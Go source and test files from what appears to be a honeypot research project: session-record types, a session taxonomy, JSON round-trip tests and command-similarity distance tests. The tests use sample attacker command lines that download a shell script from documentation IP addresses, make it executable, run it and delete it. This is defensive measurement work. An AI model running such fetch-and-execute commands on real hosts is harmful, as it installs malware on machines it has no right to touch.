	t0 := time.Date(2021, 7, 3, 12, 30, 45, 0, time.UTC)
	return []*Record{
		{},
		{
			ID: 42, Start: t0, End: t0.Add(90 * time.Second),
			HoneypotID: "hp-1", HoneypotIP: "10.0.0.1",
			ClientIP: "203.0.113.9", ClientPort: 51234,
			Protocol: ProtoSSH, ClientVersion: "SSH-2.0-libssh2_1.4.3",
			Logins: []LoginAttempt{{Username: "root", Password: "123456"}, {Username: "root", Password: "toor", Success: true}},
			Commands: []Command{
				{Raw: "cat /proc/cpuinfo | grep name | wc -l", Known: true},
				{Raw: `echo "a<b>&c" && wget http://x/y.sh`, Known: false},
			},
			Downloads:     []Download{{URI: "http://x/y.sh", SourceIP: "198.51.100.7", Hash: "ab12", Size: 1337}},
			ExecAttempts:  []ExecAttempt{{Path: "/tmp/y.sh", FileExists: true, Hash: "ab12"}, {Path: "/tmp/z"}},
			StateChanged:  true,
			DroppedHashes: []string{"ab12", "cd34"},
			TimedOut:      true,
		},
		{ // escapes: quotes, backslashes, control chars, tabs, newlines
			Start: t0, End: t0, HoneypotID: "a\"b\\c", ClientIP: "x\n\r\t\x00\x1f",
			Protocol: ProtoTelnet,
			Commands: []Command{{Raw: "a\bb\fc"}},
		},
		{ // invalid UTF-8, U+2028/29, multibyte runes, astral plane
			Start: t0, End: t0, HoneypotID: "bad\xff\xfeutf8", ClientIP: "π≈3\u2028x\u2029y",
			Protocol: "ssh", ClientVersion: "emoji \U0001F600 done",
		},
		{ // fractional seconds and non-UTC zone
			Start: time.Date(2021, 7, 3, 12, 30, 45, 123456789, time.FixedZone("", 3600)),
			End:   time.Date(2021, 7, 3, 12, 30, 45, 1000, time.FixedZone("", -4*3600-1800)),
		},
		{ // times MarshalJSON rejects → whole-record fallback must agree
			Start: time.Date(-5, 1, 1, 0, 0, 0, 0, time.UTC),
			End:   t0,
		},
		{Start: time.Date(12345, 1, 1, 0, 0, 0, 0, time.UTC), End: t0},
		{Start: t0, End: t0.In(time.FixedZone("", 30))}, // sub-minute zone offset
		{ID: ^uint64(0), Start: t0, End: t0, ClientPort: -5},
		{Start: t0, End: t0, Downloads: []Download{{URI: "u", Size: -9223372036854775808}}},
	}
}

func TestAppendJSONMatchesStdlib(t *testing.T) {
	for i, r := range jsonFastCases() {
		want, wantErr := json.Marshal(r)
		got, gotErr := AppendJSON(nil, r)
		if (wantErr == nil) != (gotErr == nil) {
			t.Fatalf("case %d: error mismatch: stdlib=%v fast=%v", i, wantErr, gotErr)
		}
		if wantErr != nil {
			continue
		}
		if !bytes.Equal(got, want) {
			t.Errorf("case %d:\n got %s\nwant %s", i, got, want)
		}
	}
}

func TestAppendJSONAppends(t *testing.T) {
	r := jsonFastCases()[1]
	prefix := []byte("prefix")
	got, err := AppendJSON(prefix, r)
	if err != nil {
		t.Fatal(err)
	}
	want, _ := json.Marshal(r)
	if !bytes.Equal(got, append([]byte("prefix"), want...)) {
		t.Fatalf("AppendJSON did not append after prefix: %s", got)
	}
}

func TestDecodeJSONMatchesStdlib(t *testing.T) {
	var dec JSONDecoder
	for i, r := range jsonFastCases() {
		line, err := json.Marshal(r)
		if err != nil {
			continue
		}
		var want, got Record
		if err := json.Unmarshal(line, &want); err != nil {
			t.Fatalf("case %d: stdlib: %v", i, err)
		}
		if err := dec.Decode(line, &got); err != nil {
			t.Fatalf("case %d: fast: %v", i, err)
		}
		if !reflect.DeepEqual(&got, &want) {
			t.Errorf("case %d: decode mismatch\n got %+v\nwant %+v", i, got, want)
		}
	}
}

// TestDecodeJSONNonCanonical feeds the decoder inputs off the canonical
// path; the result must match json.Unmarshal exactly, errors included.
func TestDecodeJSONNonCanonical(t *testing.T) {
	cases := []string{
		`{}`,
		` {"id":1,"start":"2021-07-03T12:30:45Z","end":"2021-07-03T12:30:45Z","hp":"a","client_ip":"b","proto":"ssh"}`,
		`{"proto":"ssh","id":7}`,              // reordered
		`{"id":1e2}`,                          // float form for uint
		`{"id":null}`,                         // null
		`{"ID":3}`,                            // case-insensitive match
		`{"unknown_key":1}`,                   // unknown key
		`{"id":1,"id":2}`,                     // duplicate key
		`{"logins":[]}`,                       // empty array
		`{"logins":[{"ok":true,"user":"u"}]}`, // reordered subfields
		`{"cmds":[{"raw":"x","known":false},null]}`,         // null element
		`{"hashes":["a","b"] }`,                             // trailing space
		`{"client_port":"80"}`,                              // wrong type
		`{"start":"not-a-time"}`,                            // bad time
		`{"hp":"\ud83d\ude00 \ud800 \ud800\n \uzzzz"}` + ``, // surrogates incl. invalid
		`{"hp":"a\/b\u0041\u2028"}`,
		`truncated`,
		`{"id":1`,
		`{"hp":"unterminated`,
	}
	var dec JSONDecoder
	for i, in := range cases {
		var want, got Record
		wantErr := json.Unmarshal([]byte(in), &want)
		gotErr := dec.Decode([]byte(in), &got)
		if (wantErr == nil) != (gotErr == nil) {
			t.Fatalf("case %d %q: error mismatch: stdlib=%v fast=%v", i, in, wantErr, gotErr)
		}
		if wantErr == nil && !reflect.DeepEqual(&got, &want) {
			t.Errorf("case %d %q:\n got %+v\nwant %+v", i, in, got, want)
		}
	}
}

// FuzzRecordJSON pins both directions against encoding/json: any input
// line must decode identically (including error presence), and decoded
// records must re-encode byte-identically.
func FuzzRecordJSON(f *testing.F) {
	for _, r := range jsonFastCases() {
		if line, err := json.Marshal(r); err == nil {
			f.Add(line)
		}
	}
	f.Add([]byte(`{"id":1,"hp":"\ud800\udc00","logins":[{"user":"\u0026","pass":"","ok":false}]}`))
	f.Add([]byte(`{"start":"2021-07-03T12:30:45.5+01:00","cmds":[{"raw":"a&&b","known":true}]}`))
	var dec JSONDecoder
	f.Fuzz(func(t *testing.T, line []byte) {
		var want, got Record
		wantErr := json.Unmarshal(line, &want)
		gotErr := dec.Decode(line, &got)
		if (wantErr == nil) != (gotErr == nil) {
			t.Fatalf("decode error mismatch: stdlib=%v fast=%v on %q", wantErr, gotErr, line)
		}
		if wantErr != nil {
			return
		}
		if !reflect.DeepEqual(&got, &want) {
			t.Fatalf("decode mismatch on %q:\n got %+v\nwant %+v", line, got, want)
		}
		// Round-trip: the decoded record must re-encode byte-identically.
		wantEnc, wantEncErr := json.Marshal(&want)
		gotEnc, gotEncErr := AppendJSON(nil, &got)
		if (wantEncErr == nil) != (gotEncErr == nil) {
			t.Fatalf("encode error mismatch: stdlib=%v fast=%v", wantEncErr, gotEncErr)
		}
		if wantEncErr == nil && !bytes.Equal(gotEnc, wantEnc) {
			t.Fatalf("encode mismatch:\n got %s\nwant %s", gotEnc, wantEnc)
		}
	})
}
