// Package session defines the honeynet's session record — the unit of
// observation throughout the paper — plus the four-way session taxonomy
// of section 3.3 (Scanning / Scouting / Intrusion / Command Execution)
// and JSONL persistence.
package session

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"time"
)

// Kind classifies a session per section 3.3 of the paper.
type Kind int

// Session kinds, ordered by increasing attacker progress.
const (
	// Scanning: TCP handshake only, no credentials offered.
	Scanning Kind = iota
	// Scouting: login attempted but never succeeded.
	Scouting
	// Intrusion: login succeeded, no commands executed.
	Intrusion
	// CommandExec: login succeeded and at least one command ran.
	CommandExec
)

// String returns the kind name used in reports.
func (k Kind) String() string {
	switch k {
	case Scanning:
		return "scanning"
	case Scouting:
		return "scouting"
	case Intrusion:
		return "intrusion"
	case CommandExec:
		return "command-execution"
	default:
		return fmt.Sprintf("kind(%d)", int(k))
	}
}

// Protocol names.
const (
	ProtoSSH    = "ssh"
	ProtoTelnet = "telnet"
)

// LoginAttempt is one credential presentation.
type LoginAttempt struct {
	Username string `json:"user"`
	Password string `json:"pass"`
	Success  bool   `json:"ok"`
}

// Command is one executed shell line. Known marks commands the honeypot
// emulates; unknown commands are recorded verbatim only.
type Command struct {
	Raw   string `json:"raw"`
	Known bool   `json:"known"`
}

// Download records a file retrieval commanded on the honeypot (wget,
// curl, tftp, ftpget). Hash is the SHA-256 of the content the emulated
// fetch produced.
type Download struct {
	URI      string `json:"uri"`
	SourceIP string `json:"src_ip,omitempty"`
	Hash     string `json:"hash,omitempty"`
	Size     int64  `json:"size,omitempty"`
}

// ExecAttempt records a command that tried to execute a file. FileExists
// reports whether the honeypot had the file (hash known); bots that move
// binaries via scp/rsync leave FileExists=false — the "file missing"
// population of Figure 4(b).
type ExecAttempt struct {
	Path       string `json:"path"`
	FileExists bool   `json:"exists"`
	Hash       string `json:"hash,omitempty"`
}

// Record is one honeypot session as stored in the honeynet database.
type Record struct {
	ID         uint64    `json:"id"`
	Start      time.Time `json:"start"`
	End        time.Time `json:"end"`
	HoneypotID string    `json:"hp"`
	HoneypotIP string    `json:"hp_ip,omitempty"`
	ClientIP   string    `json:"client_ip"`
	ClientPort int       `json:"client_port,omitempty"`
	Protocol   string    `json:"proto"`
	// ClientVersion is the SSH identification string, when SSH was used.
	ClientVersion string `json:"client_ver,omitempty"`

	Logins       []LoginAttempt `json:"logins,omitempty"`
	Commands     []Command      `json:"cmds,omitempty"`
	Downloads    []Download     `json:"dls,omitempty"`
	ExecAttempts []ExecAttempt  `json:"execs,omitempty"`

	// StateChanged reports whether any command altered the virtual
	// filesystem (created/modified/deleted files) — the Figure 1 split.
	StateChanged bool `json:"state_changed,omitempty"`
	// DroppedHashes are the distinct SHA-256 hashes of files created or
	// modified during the session.
	DroppedHashes []string `json:"hashes,omitempty"`
	// TimedOut is set when the honeypot's 3-minute timer ended the session.
	TimedOut bool `json:"timeout,omitempty"`
}

// LoggedIn reports whether any login attempt succeeded.
func (r *Record) LoggedIn() bool {
	for _, l := range r.Logins {
		if l.Success {
			return true
		}
	}
	return false
}

// Kind classifies the session per section 3.3.
func (r *Record) Kind() Kind {
	switch {
	case len(r.Logins) == 0:
		return Scanning
	case !r.LoggedIn():
		return Scouting
	case len(r.Commands) == 0:
		return Intrusion
	default:
		return CommandExec
	}
}

// CommandText returns all command lines joined by newlines — the input
// to classification and clustering.
func (r *Record) CommandText() string {
	if len(r.Commands) == 0 {
		return ""
	}
	n := 0
	for _, c := range r.Commands {
		n += len(c.Raw) + 1
	}
	buf := make([]byte, 0, n)
	for i, c := range r.Commands {
		if i > 0 {
			buf = append(buf, '\n')
		}
		buf = append(buf, c.Raw...)
	}
	return string(buf)
}

// Month returns the session's start month truncated to the first, the
// bucketing unit for every temporal figure in the paper.
func (r *Record) Month() time.Time {
	return time.Date(r.Start.Year(), r.Start.Month(), 1, 0, 0, 0, 0, time.UTC)
}

// Day returns the session's start date truncated to midnight UTC.
func (r *Record) Day() time.Time {
	return r.Start.Truncate(24 * time.Hour)
}

// Writer streams records as JSON lines.
type Writer struct {
	bw  *bufio.Writer
	enc *json.Encoder
}

// NewWriter returns a JSONL writer over w.
func NewWriter(w io.Writer) *Writer {
	bw := bufio.NewWriterSize(w, 1<<20)
	return &Writer{bw: bw, enc: json.NewEncoder(bw)}
}

// Write appends one record.
func (w *Writer) Write(r *Record) error { return w.enc.Encode(r) }

// Flush flushes buffered output.
func (w *Writer) Flush() error { return w.bw.Flush() }

// obsTrailerPrefix marks a metrics-snapshot trailer line written by
// internal/sessionlog on drain. The envelope struct puts _obs first,
// so a prefix check identifies trailers without parsing.
var obsTrailerPrefix = []byte(`{"_obs"`)

// IsObsTrailer reports whether a JSONL line is a metrics-snapshot
// trailer rather than a session record.
func IsObsTrailer(line []byte) bool { return bytes.HasPrefix(line, obsTrailerPrefix) }

// MaybeGzipReader returns r transparently decompressed when the stream
// begins with the gzip magic bytes, so .jsonl and .jsonl.gz datasets
// load through the same code path. Detection is by content, not file
// extension.
func MaybeGzipReader(r io.Reader) (io.Reader, error) {
	br := bufio.NewReaderSize(r, 1<<20)
	magic, err := br.Peek(2)
	if err == nil && magic[0] == 0x1f && magic[1] == 0x8b {
		return gzip.NewReader(br)
	}
	if err != nil && err != io.EOF {
		return nil, err
	}
	return br, nil
}

// ReadAll parses a JSONL stream of records (plain or gzip-compressed),
// skipping blank lines and the metrics-snapshot trailer lines a
// draining honeypotd appends (see IsObsTrailer).
func ReadAll(r io.Reader) ([]*Record, error) {
	rr, err := MaybeGzipReader(r)
	if err != nil {
		return nil, err
	}
	var out []*Record
	br := bufio.NewReaderSize(rr, 1<<20)
	for {
		line, err := br.ReadBytes('\n')
		trimmed := bytes.TrimSpace(line)
		if len(trimmed) > 0 && !IsObsTrailer(trimmed) {
			rec := &Record{}
			if uerr := json.Unmarshal(trimmed, rec); uerr != nil {
				return nil, fmt.Errorf("session: decoding record %d: %w", len(out), uerr)
			}
			out = append(out, rec)
		}
		if err != nil {
			if err == io.EOF {
				return out, nil
			}
			return nil, err
		}
	}
}
