package textdist

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestTokenizePaperExample(t *testing.T) {
	got := Tokenize("mkdir /tmp;cd /tmp")
	want := []string{"mkdir", "/tmp", "cd", "/tmp"}
	if len(got) != len(want) {
		t.Fatalf("tokens = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("token %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestDamerauPaperExample(t *testing.T) {
	// "mkdir /tmp" vs "cd /tmp": one token substitution... the paper
	// says DLD=1 treating each token as a character; "mkdir /tmp" is
	// [mkdir,/tmp], "cd /tmp" is [cd,/tmp]: substitution of one token.
	a := Tokenize("mkdir /tmp")
	b := Tokenize("cd /tmp")
	if d := Damerau(a, b); d != 1 {
		t.Errorf("DLD = %d, want 1", d)
	}
}

func TestDamerauBasics(t *testing.T) {
	cases := []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"a b c", "a b c", 0},
		{"a b c", "a c b", 1}, // transposition
		{"a b c", "a b", 1},   // deletion
		{"a b", "a b c", 1},   // insertion
		{"a b c", "x y z", 3}, // full substitution
		{"wget http://1.2.3.4/x; chmod +x x; ./x", "wget http://5.6.7.8/y; chmod +x y; ./y", 3},
	}
	for _, c := range cases {
		if got := Damerau(Tokenize(c.a), Tokenize(c.b)); got != c.want {
			t.Errorf("Damerau(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
		}
	}
}

func TestObfuscationRobustness(t *testing.T) {
	// The paper's motivation: rotating IPs/filenames changes few tokens.
	a := "cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh"
	b := "cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh"
	ta, tb := Tokenize(a), Tokenize(b)
	d := Normalized(ta, tb)
	if d > 0.5 {
		t.Errorf("normalized DLD = %.2f; obfuscated variants should stay close", d)
	}
	// A completely different behavior must be far.
	c := "uname -a"
	if d2 := Normalized(ta, Tokenize(c)); d2 < 0.8 {
		t.Errorf("normalized DLD to scout = %.2f; different behavior should be far", d2)
	}
}

func TestDamerauProperties(t *testing.T) {
	gen := func(r *rand.Rand) []string {
		n := r.Intn(12)
		out := make([]string, n)
		vocab := []string{"cd", "/tmp", "wget", "chmod", "rm", "-rf", "x", "y"}
		for i := range out {
			out[i] = vocab[r.Intn(len(vocab))]
		}
		return out
	}
	r := rand.New(rand.NewSource(7))
	for i := 0; i < 300; i++ {
		a, b, c := gen(r), gen(r), gen(r)
		dab := Damerau(a, b)
		dba := Damerau(b, a)
		if dab != dba {
			t.Fatalf("symmetry violated: %v %v", a, b)
		}
		if (dab == 0) != equal(a, b) {
			t.Fatalf("identity violated: %v %v d=%d", a, b, dab)
		}
		// Triangle inequality holds for OSA on these small random cases.
		dac := Damerau(a, c)
		dcb := Damerau(c, b)
		if dab > dac+dcb {
			t.Fatalf("triangle violated: d(a,b)=%d > %d+%d", dab, dac, dcb)
		}
		// Bounds.
		max := len(a)
		if len(b) > max {
			max = len(b)
		}
		if dab > max {
			t.Fatalf("distance exceeds max length")
		}
	}
}

func equal(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestNormalizedRange(t *testing.T) {
	f := func(a, b []byte) bool {
		ta := Tokenize(string(a))
		tb := Tokenize(string(b))
		d := Normalized(ta, tb)
		return d >= 0 && d <= 1
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestBandedMatchesFull(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	vocab := []string{"a", "b", "c", "d", "e"}
	gen := func() []string {
		n := r.Intn(15)
		out := make([]string, n)
		for i := range out {
			out[i] = vocab[r.Intn(len(vocab))]
		}
		return out
	}
	for i := 0; i < 500; i++ {
		a, b := gen(), gen()
		full := Damerau(a, b)
		for _, bound := range []int{0, 1, 3, 20} {
			banded := DamerauBanded(a, b, bound)
			if full <= bound && banded != full {
				t.Fatalf("banded(%d) = %d, full = %d for %v %v", bound, banded, full, a, b)
			}
			if full > bound && banded <= bound {
				t.Fatalf("banded(%d) = %d should exceed bound, full = %d", bound, banded, full)
			}
		}
	}
}

func TestCharDamerau(t *testing.T) {
	if d := CharDamerau("kitten", "sitting"); d != 3 {
		t.Errorf("CharDamerau(kitten,sitting) = %d, want 3", d)
	}
	if d := CharDamerau("ab", "ba"); d != 1 {
		t.Errorf("CharDamerau(ab,ba) = %d, want 1 (transposition)", d)
	}
}

// TestScratchReuseMatchesFresh: a Scratch reused across many pairs (of
// varying lengths, exercising row growth and stale contents) must agree
// with the allocate-per-call package functions.
func TestScratchReuseMatchesFresh(t *testing.T) {
	r := rand.New(rand.NewSource(23))
	vocab := []string{"cd", "/tmp", "wget", "chmod", "777", "sh", "rm", "-rf", "x", "y", "z"}
	gen := func(max int) []string {
		out := make([]string, r.Intn(max))
		for i := range out {
			out[i] = vocab[r.Intn(len(vocab))]
		}
		return out
	}
	s := NewScratch()
	for i := 0; i < 1000; i++ {
		a, b := gen(1+r.Intn(30)), gen(1+r.Intn(30))
		if got, want := s.Damerau(a, b), Damerau(a, b); got != want {
			t.Fatalf("scratch Damerau = %d, fresh = %d for %v %v", got, want, a, b)
		}
		bound := r.Intn(10)
		if got, want := s.DamerauBanded(a, b, bound), DamerauBanded(a, b, bound); got != want {
			t.Fatalf("scratch banded = %d, fresh = %d", got, want)
		}
		if got, want := s.Normalized(a, b), Normalized(a, b); got != want {
			t.Fatalf("scratch Normalized = %v, fresh = %v", got, want)
		}
	}
}

// TestNormalizedPrefilterExact: the clearly-dissimilar banded routing
// inside Normalized must be invisible — every pair, including the routed
// ones, gets exactly full-DP distance over max length.
func TestNormalizedPrefilterExact(t *testing.T) {
	r := rand.New(rand.NewSource(31))
	vocab := []string{"a", "b", "c", "d"}
	gen := func(n int) []string {
		out := make([]string, n)
		for i := range out {
			out[i] = vocab[r.Intn(len(vocab))]
		}
		return out
	}
	for i := 0; i < 2000; i++ {
		// Skewed lengths so the prefilter branch is hit often.
		a, b := gen(r.Intn(40)), gen(r.Intn(8))
		if r.Intn(2) == 0 {
			a, b = b, a
		}
		n := len(a)
		if len(b) > n {
			n = len(b)
		}
		want := 0.0
		if n > 0 {
			want = float64(Damerau(a, b)) / float64(n)
		}
		if got := Normalized(a, b); got != want {
			t.Fatalf("Normalized(%v, %v) = %v, want %v", a, b, got, want)
		}
	}
}

// TestCharDamerauMatchesTokenReference: the direct byte DP must equal
// the old implementation (token DLD over one-char strings).
func TestCharDamerauMatchesTokenReference(t *testing.T) {
	ref := func(a, b string) int {
		ta := make([]string, len(a))
		for i := 0; i < len(a); i++ {
			ta[i] = a[i : i+1]
		}
		tb := make([]string, len(b))
		for i := 0; i < len(b); i++ {
			tb[i] = b[i : i+1]
		}
		return Damerau(ta, tb)
	}
	r := rand.New(rand.NewSource(41))
	const chars = "abcdxy /;"
	gen := func() string {
		out := make([]byte, r.Intn(25))
		for i := range out {
			out[i] = chars[r.Intn(len(chars))]
		}
		return string(out)
	}
	for i := 0; i < 500; i++ {
		a, b := gen(), gen()
		if got, want := CharDamerau(a, b), ref(a, b); got != want {
			t.Fatalf("CharDamerau(%q, %q) = %d, want %d", a, b, got, want)
		}
	}
}

// TestCharDamerauZeroStringAllocs: the character DP must not allocate
// per-character strings; with a reused Scratch it must not allocate at
// all.
func TestCharDamerauZeroStringAllocs(t *testing.T) {
	s := NewScratch()
	a := "cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh"
	b := "cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh"
	s.CharDamerau(a, b) // warm the rows
	allocs := testing.AllocsPerRun(50, func() {
		s.CharDamerau(a, b)
	})
	if allocs != 0 {
		t.Errorf("CharDamerau with scratch allocates %.1f/op, want 0", allocs)
	}
}

func BenchmarkDamerauTokens(b *testing.B) {
	x := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh")
	y := Tokenize("cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh; history -c")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		Damerau(x, y)
	}
}

func BenchmarkDamerauBanded(b *testing.B) {
	x := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh")
	y := Tokenize("uname -a")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		DamerauBanded(x, y, 3)
	}
}

// TestInternedMatchesStrings pins the interned-ID DP to the string DP:
// equal tokens get equal IDs, so every distance must match exactly.
func TestInternedMatchesStrings(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	vocab := []string{"wget", "curl", "-O", "/tmp/a", "/tmp/b", "chmod", "+x", "sh", "rm", "-rf", "cd", "mdrfckr", "echo", "127.0.0.1"}
	seq := func(n int) []string {
		out := make([]string, n)
		for i := range out {
			out[i] = vocab[rng.Intn(len(vocab))]
		}
		return out
	}
	in := NewInterner()
	s := NewScratch()
	for trial := 0; trial < 300; trial++ {
		a, b := seq(rng.Intn(25)), seq(rng.Intn(25))
		ia, ib := in.Intern(a), in.Intern(b)
		if got, want := s.DamerauIDs(ia, ib), s.Damerau(a, b); got != want {
			t.Fatalf("DamerauIDs(%v, %v) = %d, want %d", a, b, got, want)
		}
		if got, want := s.NormalizedIDs(ia, ib), s.Normalized(a, b); got != want {
			t.Fatalf("NormalizedIDs(%v, %v) = %v, want %v", a, b, got, want)
		}
	}
}

// TestInternerPreservesEquality checks the Interner contract directly:
// same token same ID, distinct tokens distinct IDs.
func TestInternerPreservesEquality(t *testing.T) {
	in := NewInterner()
	ids := in.Intern([]string{"cd", "/tmp", "cd", "/var"})
	if ids[0] != ids[2] {
		t.Errorf("equal tokens got distinct IDs: %v", ids)
	}
	seen := map[int32]bool{ids[0]: true}
	for _, id := range []int32{ids[1], ids[3]} {
		if seen[id] {
			t.Errorf("distinct tokens share an ID: %v", ids)
		}
		seen[id] = true
	}
}
