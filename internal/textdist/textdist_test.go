package textdist

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestTokenizePaperExample(t *testing.T) {
	got := Tokenize("mkdir /tmp;cd /tmp")
	want := []string{"mkdir", "/tmp", "cd", "/tmp"}
	if len(got) != len(want) {
		t.Fatalf("tokens = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("token %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestDamerauPaperExample(t *testing.T) {
	// "mkdir /tmp" vs "cd /tmp": one token substitution... the paper
	// says DLD=1 treating each token as a character; "mkdir /tmp" is
	// [mkdir,/tmp], "cd /tmp" is [cd,/tmp]: substitution of one token.
	a := Tokenize("mkdir /tmp")
	b := Tokenize("cd /tmp")
	if d := Damerau(a, b); d != 1 {
		t.Errorf("DLD = %d, want 1", d)
	}
}

func TestDamerauBasics(t *testing.T) {
	cases := []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"a b c", "a b c", 0},
		{"a b c", "a c b", 1}, // transposition
		{"a b c", "a b", 1},   // deletion
		{"a b", "a b c", 1},   // insertion
		{"a b c", "x y z", 3}, // full substitution
		{"wget http://1.2.3.4/x; chmod +x x; ./x", "wget http://5.6.7.8/y; chmod +x y; ./y", 3},
	}
	for _, c := range cases {
		if got := Damerau(Tokenize(c.a), Tokenize(c.b)); got != c.want {
			t.Errorf("Damerau(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
		}
	}
}

func TestObfuscationRobustness(t *testing.T) {
	// The paper's motivation: rotating IPs/filenames changes few tokens.
	a := "cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh"
	b := "cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh"
	ta, tb := Tokenize(a), Tokenize(b)
	d := Normalized(ta, tb)
	if d > 0.5 {
		t.Errorf("normalized DLD = %.2f; obfuscated variants should stay close", d)
	}
	// A completely different behavior must be far.
	c := "uname -a"
	if d2 := Normalized(ta, Tokenize(c)); d2 < 0.8 {
		t.Errorf("normalized DLD to scout = %.2f; different behavior should be far", d2)
	}
}

func TestDamerauProperties(t *testing.T) {
	gen := func(r *rand.Rand) []string {
		n := r.Intn(12)
		out := make([]string, n)
		vocab := []string{"cd", "/tmp", "wget", "chmod", "rm", "-rf", "x", "y"}
		for i := range out {
			out[i] = vocab[r.Intn(len(vocab))]
		}
		return out
	}
	r := rand.New(rand.NewSource(7))
	for i := 0; i < 300; i++ {
		a, b, c := gen(r), gen(r), gen(r)
		dab := Damerau(a, b)
		dba := Damerau(b, a)
		if dab != dba {
			t.Fatalf("symmetry violated: %v %v", a, b)
		}
		if (dab == 0) != equal(a, b) {
			t.Fatalf("identity violated: %v %v d=%d", a, b, dab)
		}
		// Triangle inequality holds for OSA on these small random cases.
		dac := Damerau(a, c)
		dcb := Damerau(c, b)
		if dab > dac+dcb {
			t.Fatalf("triangle violated: d(a,b)=%d > %d+%d", dab, dac, dcb)
		}
		// Bounds.
		max := len(a)
		if len(b) > max {
			max = len(b)
		}
		if dab > max {
			t.Fatalf("distance exceeds max length")
		}
	}
}

func equal(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestNormalizedRange(t *testing.T) {
	f := func(a, b []byte) bool {
		ta := Tokenize(string(a))
		tb := Tokenize(string(b))
		d := Normalized(ta, tb)
		return d >= 0 && d <= 1
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestBandedMatchesFull(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	vocab := []string{"a", "b", "c", "d", "e"}
	gen := func() []string {
		n := r.Intn(15)
		out := make([]string, n)
		for i := range out {
			out[i] = vocab[r.Intn(len(vocab))]
		}
		return out
	}
	for i := 0; i < 500; i++ {
		a, b := gen(), gen()
		full := Damerau(a, b)
		for _, bound := range []int{0, 1, 3, 20} {
			banded := DamerauBanded(a, b, bound)
			if full <= bound && banded != full {
				t.Fatalf("banded(%d) = %d, full = %d for %v %v", bound, banded, full, a, b)
			}
			if full > bound && banded <= bound {
				t.Fatalf("banded(%d) = %d should exceed bound, full = %d", bound, banded, full)
			}
		}
	}
}

func TestCharDamerau(t *testing.T) {
	if d := CharDamerau("kitten", "sitting"); d != 3 {
		t.Errorf("CharDamerau(kitten,sitting) = %d, want 3", d)
	}
	if d := CharDamerau("ab", "ba"); d != 1 {
		t.Errorf("CharDamerau(ab,ba) = %d, want 1 (transposition)", d)
	}
}

func BenchmarkDamerauTokens(b *testing.B) {
	x := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh")
	y := Tokenize("cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh; history -c")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		Damerau(x, y)
	}
}

func BenchmarkDamerauBanded(b *testing.B) {
	x := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh")
	y := Tokenize("uname -a")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		DamerauBanded(x, y, 3)
	}
}
