package textdist

import (
	"math/rand"
	"testing"
)

// genTokens returns a random token sequence over a small vocabulary —
// small so transpositions, shared affixes, and repeats occur often.
func genTokens(r *rand.Rand, maxLen int, vocab []string) []string {
	out := make([]string, r.Intn(maxLen+1))
	for i := range out {
		out[i] = vocab[r.Intn(len(vocab))]
	}
	return out
}

// TestBoundedKernelEqualsFullDP is the kernel-equivalence property
// test: the Ukkonen doubling-band kernel must equal the naive full-DP
// reference on random token sequences, including transposition-heavy
// and shared-prefix/suffix cases.
func TestBoundedKernelEqualsFullDP(t *testing.T) {
	r := rand.New(rand.NewSource(101))
	small := []string{"a", "b"}
	mid := []string{"cd", "/tmp", "wget", "chmod", "777", "sh", "rm", "-rf", "x"}
	s := NewScratch()
	trial := func(a, b []string) {
		t.Helper()
		want := Damerau(a, b)
		if got := s.DamerauBounded(a, b); got != want {
			t.Fatalf("bounded = %d, full = %d for %v vs %v", got, want, a, b)
		}
		n := len(a)
		if len(b) > n {
			n = len(b)
		}
		wantN := 0.0
		if n > 0 {
			wantN = float64(want) / float64(n)
		}
		if got := s.Normalized(a, b); got != wantN {
			t.Fatalf("normalized = %v, want %v for %v vs %v", got, wantN, a, b)
		}
	}
	for i := 0; i < 2000; i++ {
		// Tiny alphabet: dense with transpositions and equal runs.
		trial(genTokens(r, 12, small), genTokens(r, 12, small))
		// Mid alphabet at skewed lengths: exercises the length bound.
		trial(genTokens(r, 30, mid), genTokens(r, 8, mid))
	}
	// Shared-prefix/suffix cases: common affixes wrapped around random
	// cores, the exact shape obfuscated bot variants take.
	for i := 0; i < 2000; i++ {
		pre := genTokens(r, 6, mid)
		suf := genTokens(r, 6, mid)
